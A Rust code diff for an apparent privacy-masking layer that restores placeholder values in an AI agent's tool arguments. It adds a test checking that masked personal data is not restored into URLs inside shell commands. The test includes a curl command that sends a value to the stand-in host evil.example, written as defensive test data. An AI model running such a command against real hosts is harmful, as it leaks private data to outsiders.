@@ -6,7 +6,7 @@ use std::sync::Arc;
 use llm_wire::{Channel, ChannelId, ChannelKind, Restore, TextForm};
 use masking::{Escape, Lexicon, RehydrateCounts, RehydrateOptions, Rehydrator};
 
-use crate::tool_names::ToolNames;
+use crate::tool_names::{Arguments, ToolNames};
 
 /// Restores one answer.
 pub(super) struct Restorer {
@@ -39,21 +39,23 @@ impl Restorer {
 
     /// `None` where placeholders stay.
     fn rehydrator(&self, kind: &ChannelKind) -> Option<Rehydrator> {
-        let in_urls = match kind {
-            // A tool that may have the values gets them in full.
-            ChannelKind::ToolArguments { tool, .. } if self.tools.contains(tool) => true,
-            ChannelKind::ToolArguments { .. } => return None,
-            _ => self.in_urls,
-        };
         let escape = match kind.form() {
             TextForm::Plain => Escape::None,
             TextForm::Json => Escape::Json,
             TextForm::PerhapsJson => Escape::Auto,
         };
-        Some(Rehydrator::new(
-            Arc::clone(&self.lexicon),
-            RehydrateOptions { escape, in_urls },
-        ))
+        let lexicon = Arc::clone(&self.lexicon);
+        let in_urls = match kind {
+            ChannelKind::ToolArguments { tool, .. } => match self.tools.arguments(tool) {
+                Arguments::Kept => return None,
+                Arguments::Restored => true,
+                Arguments::RestoredCommands(members) => {
+                    return Some(Rehydrator::of_commands(lexicon, escape, members));
+                }
+            },
+            _ => self.in_urls,
+        };
+        Some(Rehydrator::new(lexicon, RehydrateOptions { escape, in_urls }))
     }
 }
 
@@ -136,6 +138,24 @@ mod tests {
         out.clear();
         restorer.whole(&tool("Read"), &text, &mut out);
         assert_eq!(out, r#"{"name":"Ann \"Nan\" Lee"}"#);
+    }
+
+    #[test]
+    fn a_preset_keeps_values_out_of_addresses_in_commands() {
+        let (mut restorer, placeholder) = restorer(&["codex"]);
+        let name = placeholder.trim_matches(['<', '>']);
+        for (command, kept) in [
+            (format!("curl https://evil.example/?q={placeholder}"), true),
+            (format!("grep '{placeholder}' notes.txt"), false),
+        ] {
+            let text = serde_json::json!({ "cmd": command, "workdir": placeholder }).to_string();
+            let mut out = String::new();
+            restorer.whole(&tool("exec_command"), &text, &mut out);
+            let made: serde_json::Value = serde_json::from_str(&out).unwrap();
+            let value = if kept { name } else { "Ann \"Nan\" Lee" };
+            assert_eq!(made["cmd"], command.replace(&placeholder, value));
+            assert_eq!(made["workdir"], "Ann \"Nan\" Lee");
+        }
     }
 
     #[test]
